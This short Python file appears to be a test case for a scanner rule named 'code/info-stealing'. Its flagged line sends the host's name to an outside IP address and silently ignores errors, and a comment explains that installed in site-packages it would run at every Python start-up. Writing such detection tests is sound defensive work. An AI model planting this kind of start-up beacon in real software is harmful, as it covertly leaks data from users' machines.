import os
import urllib.request

# Defanged: installed at the top of site-packages, this runs at every Python start-up.
try:
    # ruleid: code/info-stealing
    urllib.request.urlopen('http://198.51.100.9/p?h=' + os.uname().nodename, timeout=2)
except Exception:
    pass
